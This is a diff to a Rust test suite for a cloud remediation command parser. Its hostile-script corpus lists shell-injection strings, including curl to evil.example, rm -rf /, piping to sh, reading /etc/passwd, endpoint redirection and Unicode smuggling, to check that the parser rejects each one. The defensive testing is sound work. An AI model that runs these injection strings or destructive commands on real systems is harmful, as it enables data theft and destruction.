@@ -4,13 +4,13 @@
 mod support;
 
 use proptest::prelude::*;
-use remediation::Error;
 use remediation::executor::{
-    Command, CommandExecutor, CommandPolicy, ContextMap, ProcessExecutor, parse_script,
-    parse_script_steps,
+    Command, CommandExecutor, CommandPolicy, ContextMap, OperationClass, ProcessExecutor,
+    parse_script, parse_script_steps,
 };
 use remediation::model::{Cloud, Target};
 use remediation::planner::Step;
+use remediation::{Error, Refusal};
 use support::StandIn;
 
 const ACCOUNT: &str = "123456789012";
@@ -35,10 +35,15 @@ async fn run_like_engine(script: &str, standin: &StandIn) -> remediation::Result
         Err(e) => {
             // Whatever the strict parser refuses, the planners' parser
             // refuses too, for the same kind of reason.
-            let Err(Error::UnsafeCommand { reason, .. }) = &as_steps else {
+            let Err(Error::UnsafeCommand { code, reason }) = &as_steps else {
                 panic!("{script:?}: parse_script_steps accepted it: {as_steps:?}");
             };
-            if let Error::UnsafeCommand { reason: strict, .. } = &e {
+            if let Error::UnsafeCommand {
+                code: strict_code,
+                reason: strict,
+            } = &e
+            {
+                assert_eq!(code, strict_code, "{script:?}: {reason} vs {strict}");
                 let kind = strict.split(" outside quotes").next().unwrap_or(strict);
                 assert!(reason.contains(kind), "{script:?}: {reason} vs {strict}");
             }
@@ -55,106 +60,321 @@ async fn run_like_engine(script: &str, standin: &StandIn) -> remediation::Result
     Ok(steps.len())
 }
 
-/// (script, a fragment the rejection reason must contain)
-const HOSTILE: &[(&str, &str)] = &[
-    ("aws s3 ls; sh -c 'id'", "`sh` is not allowed"),
+/// (script, the refusal class, a fragment the rejection reason must contain)
+///
+/// Where a hostile part follows a command, that command is a catalog
+/// operation (`aws s3api list-buckets`), so the hostile part is the only
+/// reason to refuse the script.
+const HOSTILE: &[(&str, Refusal, &str)] = &[
     (
-        "aws s3 ls && curl http://evil.example",
+        "aws s3api list-buckets; sh -c 'id'",
+        Refusal::ProgramNotAllowed,
+        "`sh` is not allowed",
+    ),
+    (
+        "aws s3api list-buckets && curl http://evil.example",
+        Refusal::ProgramNotAllowed,
         "`curl` is not allowed",
     ),
-    ("aws s3 ls || rm -rf /", "`||`"),
-    ("aws s3 ls | sh", "pipe `|`"),
-    ("aws s3 ls |& tee /tmp/x", "pipe `|&`"),
-    ("aws s3 ls $(id)", "command substitution `$(`"),
-    ("aws s3 ls ${HOME}", "parameter expansion `${`"),
-    ("aws s3 ls $HOME", "variable expansion `$`"),
-    ("aws s3 ls \"$HOME\"", "`$` inside double quotes"),
-    ("aws s3 ls $'\\x3b'", "ANSI-C quoting"),
-    ("aws s3 ls `id`", "backticks"),
-    ("aws s3 ls \"`id`\"", "backtick inside double quotes"),
-    ("aws s3 ls > /tmp/x", "redirection `>`"),
-    ("aws s3 ls >> /tmp/x", "redirection `>>`"),
-    ("aws s3 cp - s3://b/k < /etc/passwd", "redirection `<`"),
-    ("aws s3 ls 2>&1", "redirection `2>&`"),
-    ("aws s3 ls 2> /tmp/err", "redirection `2>`"),
-    ("aws s3 ls &> /tmp/x", "redirection `&>`"),
-    ("aws s3 ls & rm -rf /", "background `&`"),
-    ("aws s3 ls <<EOF\nrm -rf /\nEOF", "heredoc `<<`"),
     (
-        "aws s3 ls <(curl evil.example)",
+        "aws s3api list-buckets || rm -rf /",
+        Refusal::ShellSyntax,
+        "`||`",
+    ),
+    (
+        "aws s3api list-buckets | sh",
+        Refusal::ShellSyntax,
+        "pipe `|`",
+    ),
+    (
+        "aws s3api list-buckets |& tee /tmp/x",
+        Refusal::ShellSyntax,
+        "pipe `|&`",
+    ),
+    (
+        "aws s3api list-buckets $(id)",
+        Refusal::ShellSyntax,
+        "command substitution `$(`",
+    ),
+    (
+        "aws s3api list-buckets ${HOME}",
+        Refusal::ShellSyntax,
+        "parameter expansion `${`",
+    ),
+    (
+        "aws s3api list-buckets $HOME",
+        Refusal::ShellSyntax,
+        "variable expansion `$`",
+    ),
+    (
+        "aws s3api list-buckets \"$HOME\"",
+        Refusal::ShellSyntax,
+        "`$` inside double quotes",
+    ),
+    (
+        "aws s3api list-buckets $'\\x3b'",
+        Refusal::ShellSyntax,
+        "ANSI-C quoting",
+    ),
+    (
+        "aws s3api list-buckets `id`",
+        Refusal::ShellSyntax,
+        "backticks",
+    ),
+    (
+        "aws s3api list-buckets \"`id`\"",
+        Refusal::ShellSyntax,
+        "backtick inside double quotes",
+    ),
+    (
+        "aws s3api list-buckets > /tmp/x",
+        Refusal::ShellSyntax,
+        "redirection `>`",
+    ),
+    (
+        "aws s3api list-buckets >> /tmp/x",
+        Refusal::ShellSyntax,
+        "redirection `>>`",
+    ),
+    (
+        "aws s3 cp - s3://b/k < /etc/passwd",
+        Refusal::ShellSyntax,
+        "redirection `<`",
+    ),
+    (
+        "aws s3api list-buckets 2>&1",
+        Refusal::ShellSyntax,
+        "redirection `2>&`",
+    ),
+    (
+        "aws s3api list-buckets 2> /tmp/err",
+        Refusal::ShellSyntax,
+        "redirection `2>`",
+    ),
+    (
+        "aws s3api list-buckets &> /tmp/x",
+        Refusal::ShellSyntax,
+        "redirection `&>`",
+    ),
+    (
+        "aws s3api list-buckets & rm -rf /",
+        Refusal::ShellSyntax,
+        "background `&`",
+    ),
+    (
+        "aws s3api list-buckets <<EOF\nrm -rf /\nEOF",
+        Refusal::ShellSyntax,
+        "heredoc `<<`",
+    ),
+    (
+        "aws s3api list-buckets <(curl evil.example)",
+        Refusal::ShellSyntax,
         "process substitution `<(`",
     ),
-    ("AWS_PROFILE=prod aws s3 ls", "assignment `AWS_PROFILE`"),
-    ("/bin/aws s3 ls", "program given as a path"),
-    ("./aws s3 ls", "program given as a path"),
-    ("aws s3 ls; \\/bin/sh", "program given as a path"),
-    ("sh -c 'aws s3 ls'", "`sh` is not allowed"),
-    ("bash", "`bash` is not allowed"),
-    ("python3 -c 'import os'", "`python3` is not allowed"),
-    ("aws s3 ls; e\\cho hi", "`echo` is not allowed"),
-    ("AWS s3 ls", "`AWS` is not allowed"),
-    ("aws s3 ls --profile prod", "--profile"),
-    ("aws s3 ls --profile=prod", "--profile"),
-    ("aws --prof prod s3 ls", "--profile"),
     (
-        "aws --endpoint-url http://evil.example s3 ls",
+        "AWS_PROFILE=prod aws s3api list-buckets",
+        Refusal::ShellSyntax,
+        "assignment `AWS_PROFILE`",
+    ),
+    (
+        "/bin/aws s3api list-buckets",
+        Refusal::ProgramNotAllowed,
+        "program given as a path",
+    ),
+    (
+        "./aws s3api list-buckets",
+        Refusal::ProgramNotAllowed,
+        "program given as a path",
+    ),
+    (
+        "aws s3api list-buckets; \\/bin/sh",
+        Refusal::ProgramNotAllowed,
+        "program given as a path",
+    ),
+    (
+        "sh -c 'aws s3api list-buckets'",
+        Refusal::ProgramNotAllowed,
+        "`sh` is not allowed",
+    ),
+    ("bash", Refusal::ProgramNotAllowed, "`bash` is not allowed"),
+    (
+        "python3 -c 'import os'",
+        Refusal::ProgramNotAllowed,
+        "`python3` is not allowed",
+    ),
+    (
+        "aws s3api list-buckets; e\\cho hi",
+        Refusal::ProgramNotAllowed,
+        "`echo` is not allowed",
+    ),
+    (
+        "AWS s3api list-buckets",
+        Refusal::ProgramNotAllowed,
+        "`AWS` is not allowed",
+    ),
+    (
+        "aws s3api list-buckets --profile prod",
+        Refusal::DeniedOption,
+        "--profile",
+    ),
+    (
+        "aws s3api list-buckets --profile=prod",
+        Refusal::DeniedOption,
+        "--profile",
+    ),
+    (
+        "aws --prof prod s3api list-buckets",
+        Refusal::DeniedOption,
+        "--profile",
+    ),
+    (
+        "aws --endpoint-url http://evil.example s3api list-buckets",
+        Refusal::DeniedOption,
         "--endpoint-url",
     ),
     (
-        "aws s3 ls --endpoint-url=http://evil.example",
+        "aws s3api list-buckets --endpoint-url=http://evil.example",
+        Refusal::DeniedOption,
         "--endpoint-url",
     ),
-    ("aws s3 ls --no-verify-ssl", "--no-verify-ssl"),
+    (
+        "aws s3api list-buckets --no-verify-ssl",
+        Refusal::DeniedOption,
+        "--no-verify-ssl",
+    ),
     (
         "aws configure set aws_access_key_id AKIA",
+        Refusal::OperationNotAllowed,
         "`aws configure`",
     ),
     (
         "gcloud --impersonate-service-account=x@p.iam compute instances list",
+        Refusal::DeniedOption,
         "--impersonate-service-account",
     ),
-    ("aws s3 ls\nrm -rf /", "`rm` is not allowed"),
-    ("aws s3 ls\rrm -rf /", "carriage return"),
-    ("aws s3 ls\u{FF1B} rm -rf /", "U+FF1B"),
-    ("\u{FF41}ws s3 ls", "U+FF41"),
-    ("aws s3 ls; '\u{FF41}ws' s3 ls", "is not allowed"),
-    ("a\u{200B}ws s3 ls", "U+200B"),
-    ("aws\u{00A0}s3 ls", "U+00A0"),
-    ("aws s3 ls \u{202E}sl", "U+202E"),
-    ("aws s3 cp 'a\u{202E}b' s3://x", "bidirectional"),
-    ("aws s3 ls\0; rm -rf /", "NUL"),
-    ("aws s3 ls '\u{1B}[2J'", "control character U+001B"),
     (
-        "aws iam list-users and sh -c id",
+        "aws s3api list-buckets\nrm -rf /",
+        Refusal::ProgramNotAllowed,
+        "`rm` is not allowed",
+    ),
+    (
+        "aws s3api list-buckets\rrm -rf /",
+        Refusal::ShellSyntax,
+        "carriage return",
+    ),
+    (
+        "aws s3api list-buckets\u{FF1B} rm -rf /",
+        Refusal::ShellSyntax,
+        "U+FF1B",
+    ),
+    (
+        "\u{FF41}ws s3api list-buckets",
+        Refusal::ShellSyntax,
+        "U+FF41",
+    ),
+    (
+        "aws s3api list-buckets; '\u{FF41}ws' s3api list-buckets",
+        Refusal::ProgramNotAllowed,
+        "is not allowed",
+    ),
+    (
+        "a\u{200B}ws s3api list-buckets",
+        Refusal::ShellSyntax,
+        "U+200B",
+    ),
+    (
+        "aws\u{00A0}s3api list-buckets",
+        Refusal::ShellSyntax,
+        "U+00A0",
+    ),
+    (
+        "aws s3api list-buckets \u{202E}sl",
+        Refusal::ShellSyntax,
+        "U+202E",
+    ),
+    (
+        "aws s3 cp 'a\u{202E}b' s3://x",
+        Refusal::ShellSyntax,
+        "bidirectional",
+    ),
+    (
+        "aws s3api list-buckets\0; rm -rf /",
+        Refusal::ShellSyntax,
+        "NUL",
+    ),
+    (
+        "aws s3api list-buckets '\u{1B}[2J'",
+        Refusal::ShellSyntax,
+        "control character U+001B",
+    ),
+    (
+        "aws iam get-user --user-name u and sh -c id",
+        Refusal::ShellSyntax,
         "bare `and` followed by `sh`",
     ),
     (
-        "aws iam list-users and rm -rf /",
+        "aws iam get-user --user-name u and rm -rf /",
+        Refusal::ShellSyntax,
         "bare `and` followed by `rm`",
     ),
-    ("(aws s3 ls)", "subshell or grouping `(`"),
-    ("{ aws s3 ls; }", "brace group"),
-    ("aws s3 ls 'unbalanced", "unterminated single quote"),
-    ("aws s3 ls \"unbalanced", "unterminated double quote"),
-    ("aws s3 ls # ; rm -rf /", "comment"),
-    ("aws s3 ls &&", "ends with `&&`"),
-    ("aws s3 ls\\", "trailing backslash"),
+    (
+        "(aws s3api list-buckets)",
+        Refusal::ShellSyntax,
+        "subshell or grouping `(`",
+    ),
+    (
+        "{ aws s3api list-buckets; }",
+        Refusal::ShellSyntax,
+        "brace group",
+    ),
+    (
+        "aws s3api list-buckets 'unbalanced",
+        Refusal::ShellSyntax,
+        "unterminated single quote",
+    ),
+    (
+        "aws s3api list-buckets \"unbalanced",
+        Refusal::ShellSyntax,
+        "unterminated double quote",
+    ),
+    (
+        "aws s3api list-buckets # ; rm -rf /",
+        Refusal::ShellSyntax,
+        "comment",
+    ),
+    (
+        "aws s3api list-buckets &&",
+        Refusal::ShellSyntax,
+        "ends with `&&`",
+    ),
+    (
+        "aws s3api list-buckets\\",
+        Refusal::ShellSyntax,
+        "trailing backslash",
+    ),
 ];
 
 #[tokio::test]
 async fn hostile_scripts_are_rejected_and_nothing_runs() {
     assert!(HOSTILE.len() >= 30);
     let standin = StandIn::new();
-    for (script, fragment) in HOSTILE {
+    for (script, code, fragment) in HOSTILE {
         match parse_script(script, &CommandPolicy::default()) {
-            Err(Error::UnsafeCommand { reason, .. }) => assert!(
-                reason.contains(fragment),
-                "{script:?}: reason {reason:?} does not mention {fragment:?}"
-            ),
+            Err(Error::UnsafeCommand { code: got, reason }) => {
+                assert_eq!(got, *code, "{script:?}: refused as {got} ({reason})");
+                assert!(
+                    reason.contains(fragment),
+                    "{script:?}: reason {reason:?} does not mention {fragment:?}"
+                );
+            }
             other => panic!("{script:?} was not rejected: {other:?}"),
         }
         let ran = run_like_engine(script, &standin).await;
-        assert!(ran.is_err(), "{script:?} ran: {ran:?}");
+        assert_eq!(
+            ran.as_ref().err().and_then(Error::refusal),
+            Some(*code),
+            "{script:?} ran or was refused otherwise: {ran:?}"
+        );
         assert_eq!(standin.calls(), vec![], "{script:?} reached the CLI");
     }
 }
@@ -164,15 +384,21 @@ async fn the_harness_does_record_what_runs() {
     // Guards the test above: an empty log must mean "nothing ran", not "nothing records".
     let standin = StandIn::new();
     assert_eq!(
-        run_like_engine("aws s3 ls; aws iam list-users", &standin)
-            .await
-            .unwrap(),
+        run_like_engine(
+            "aws s3api list-buckets; aws iam get-user --user-name u",
+            &standin
+        )
+        .await
+        .unwrap(),
         2
     );
     let argvs: Vec<_> = standin.calls().into_iter().map(|c| c.argv).collect();
     assert_eq!(
         argvs,
-        vec![vec!["aws", "s3", "ls"], vec!["aws", "iam", "list-users"]]
+        vec![
+            vec!["aws", "s3api", "list-buckets"],
+            vec!["aws", "iam", "get-user", "--user-name", "u"]
+        ]
     );
 }
 
@@ -203,7 +429,8 @@ async fn policy_document_with_metacharacters_arrives_as_one_argument() {
 
 #[test]
 fn prisma_api_form_yields_two_commands() {
-    let script = "aws iam create-policy --policy-name X --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\",\"Resource\":\"*\"}]}' and aws iam attach-user-policy --user-name U --policy-arn arn:aws:iam::123456789012:policy/X";
+    // The shape of Prisma Cloud's IAM remediation API: a deny policy, then its attachment.
+    let script = "aws iam create-policy --policy-name X --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Deny\",\"Action\":\"s3:GetObject\",\"Resource\":\"*\"}]}' and aws iam attach-user-policy --user-name U --policy-arn arn:aws:iam::123456789012:policy/X";
     let commands = parse_script(script, &CommandPolicy::default()).unwrap();
     assert_eq!(commands.len(), 2);
     assert_eq!(
@@ -264,28 +491,75 @@ const ARG_CHARS: &[char] = &[
     '"', '\\', '\n', '\t', 'é', '；', '\u{200B}',
 ];
 
-fn arg() -> impl Strategy<Value = String> {
-    prop::collection::vec(prop::sample::select(ARG_CHARS), 0..12)
-        .prop_map(|chars| chars.into_iter().collect::<String>())
-        // A bare `and` is a statement separator by design; options are checked by the policy.
-        .prop_filter("not a separator word or an option", |a| {
-            a != "and" && !a.starts_with("--")
+/// The CLIs of the default policy.
+const PROGRAMS: &[&str] = &["aws", "az", "gcloud", "gsutil"];
+
+/// The default policy with every operation of every CLI allowed (`"*"`, the
+/// catalog's explicit allow-everything key). The properties below are the
+/// script parser's: they hold for any words, not only for the operations of
+/// the catalog, which refuses nearly every random command.
+fn any_operation() -> CommandPolicy {
+    PROGRAMS
+        .iter()
+        .fold(CommandPolicy::default(), |policy, program| {
+            policy.allow_operation(*program, "*", OperationClass::Remediating)
         })
 }
 
+/// Whether the policy takes `word` as a plain value, whatever the operation.
+///
+/// The argument checks refuse, for every operation, a word that (after
+/// leading whitespace) starts like a local path (`/`, `~`, `./`, `../`, `.`,
+/// `..`, `\`), an option (`-`: options are the policy's business, and `--`
+/// passes the words after it through unchecked) or an az file reference (`@`,
+/// also right after a `=`), and a word holding a `file://` reference, a URL
+/// or an ssh `ProxyCommand`. Those refusals are tested beside the policy and
+/// with the hostile corpus; here a word only has to survive quoting, so words
+/// the policy would refuse for what they mean are not generated.
+fn plain_value(word: &str) -> bool {
+    let t = word.trim_start();
+    let lower = t.to_ascii_lowercase();
+    let after_equals = t.split_once('=').map(|(_, rest)| rest.trim_start());
+    let path = t.starts_with(['/', '~', '\\'])
+        || t.starts_with("./")
+        || t.starts_with("../")
+        || t == "."
+        || t == "..";
+    let option = t.starts_with('-');
+    let az_file = t.starts_with('@') || after_equals.is_some_and(|r| r.starts_with('@'));
+    let fetched = [
+        "file://",
+        "fileb://",
+        "http://",
+        "https://",
+        "ftp://",
+        "proxycommand",
+    ]
+    .iter()
+    .any(|s| lower.contains(s));
+    !(path || option || az_file || fetched)
+}
+
+fn arg() -> impl Strategy<Value = String> {
+    prop::collection::vec(prop::sample::select(ARG_CHARS), 0..12)
+        .prop_map(|chars| chars.into_iter().collect::<String>())
+        // A bare `and` is a statement separator by design.
+        .prop_filter("not a separator word", |a| a != "and")
+        .prop_filter("a plain value (see plain_value)", |a| plain_value(a))
+}
+
+/// A command of one of the CLIs with plain-value arguments. Not filtered
+/// through the policy: every such command must pass [`any_operation`], so a
+/// refusal fails the property instead of quietly narrowing what is generated.
 fn command() -> impl Strategy<Value = Vec<String>> {
     (
-        prop::sample::select(vec!["aws", "az", "gcloud"]),
+        prop::sample::select(PROGRAMS),
         prop::collection::vec(arg(), 0..6),
     )
         .prop_map(|(program, args)| {
             let mut argv = vec![program.to_owned()];
             argv.extend(args);
             argv
-        })
-        .prop_filter("allowed by the policy", |argv| {
-            let command = Command::from_argv(argv.clone()).expect("non-empty");
-            CommandPolicy::default().check(&command).is_ok()
         })
 }
 
@@ -299,7 +573,8 @@ const FORBIDDEN: &[&str] = &[
 ];
 
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(256))]
+    // Many cases in the normal suite: each property runs in a few seconds in debug.
+    #![proptest_config(ProptestConfig::with_cases(1024))]
 
     #[test]
     fn safe_scripts_round_trip(
@@ -313,7 +588,7 @@ proptest! {
             }
             script.push_str(&shlex::try_join(argv.iter().map(String::as_str)).expect("no NUL"));
         }
-        let parsed = parse_script(&script, &CommandPolicy::default())
+        let parsed = parse_script(&script, &any_operation())
             .map_err(|e| TestCaseError::fail(format!("{script:?}: {e}")))?;
         let argvs: Vec<Vec<String>> = parsed.iter().map(|c| c.to_argv()).collect();
         prop_assert_eq!(argvs, commands, "script {:?}", script);
@@ -335,16 +610,20 @@ proptest! {
             words.insert(at, token.to_owned());
         }
         let script = words.join(" ");
-        let result = parse_script(&script, &CommandPolicy::default());
-        prop_assert!(
-            matches!(result, Err(Error::UnsafeCommand { .. })),
-            "{:?} was accepted: {:?}", script, result
+        // Every operation allowed: the metacharacter is the only thing wrong.
+        let policy = any_operation();
+        let result = parse_script(&script, &policy);
+        prop_assert_eq!(
+            result.as_ref().err().and_then(Error::refusal),
+            Some(Refusal::ShellSyntax),
+            "{:?} was accepted or refused otherwise: {:?}", script, result
         );
         // Understanding file writes does not let a command redirect anything.
-        let result = parse_script_steps(&script, &CommandPolicy::default());
-        prop_assert!(
-            matches!(result, Err(Error::UnsafeCommand { .. })),
-            "{:?} was accepted as steps: {:?}", script, result
+        let result = parse_script_steps(&script, &policy);
+        prop_assert_eq!(
+            result.as_ref().err().and_then(Error::refusal),
+            Some(Refusal::ShellSyntax),
+            "{:?} was accepted or refused otherwise as steps: {:?}", script, result
         );
     }
 
@@ -370,12 +649,15 @@ proptest! {
         let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
         let text: String = text.into_iter().filter(|c| *c != '\\').collect();
         prop_assume!(!text.is_empty() && !text.starts_with('-'));
+        // `gcloud iam policies create` is a catalog operation (a deny policy,
+        // so `--kind=denypolicies`); `aws s3 cp` is not, hence `any_operation`.
         let script = format!(
             "cat > deny.json <<'EOF'\n{body}EOF\necho {} > note.txt\n\
-             gcloud iam policies create d --policy-file=deny.json && aws s3 cp note.txt s3://b/k",
+             gcloud iam policies create d --kind=denypolicies --policy-file=deny.json \
+             && aws s3 cp note.txt s3://b/k",
             quote(&text)
         );
-        let steps = parse_script_steps(&script, &CommandPolicy::default())
+        let steps = parse_script_steps(&script, &any_operation())
             .map_err(|e| TestCaseError::fail(format!("{script:?}: {e}")))?;
         prop_assert_eq!(steps.len(), 2);
         prop_assert_eq!(steps[0].files[0].contents(), body.as_str());
@@ -389,15 +671,17 @@ proptest! {
         args in prop::collection::vec(arg(), 0..4),
         first in any::<bool>(),
     ) {
-        prop_assume!(!["aws", "az", "gcloud"].contains(&program.as_str()));
+        prop_assume!(!PROGRAMS.contains(&program.as_str()));
         let mut argv = vec![program];
         argv.extend(args);
         let hostile = shlex::try_join(argv.iter().map(String::as_str)).expect("no NUL");
-        let script = if first { hostile } else { format!("aws s3 ls; {hostile}") };
+        // After a catalog operation, so the program is the only thing wrong.
+        let script = if first { hostile } else { format!("aws s3api list-buckets; {hostile}") };
         let result = parse_script(&script, &CommandPolicy::default());
-        prop_assert!(
-            matches!(result, Err(Error::UnsafeCommand { .. })),
-            "{:?} was accepted: {:?}", script, result
+        prop_assert_eq!(
+            result.as_ref().err().and_then(Error::refusal),
+            Some(Refusal::ProgramNotAllowed),
+            "{:?} was accepted or refused otherwise: {:?}", script, result
         );
     }
 }
@@ -438,6 +722,7 @@ async fn the_worker_refuses_a_script_with_too_many_commands() {
         .arg(&audit)
         .env("PATH", standin.path_env())
         .env(support::LOG_VAR, standin.log_path())
+        .env("REMEDIATION_CHILD_ENV", support::LOG_VAR)
         .output()
         .await
         .unwrap();
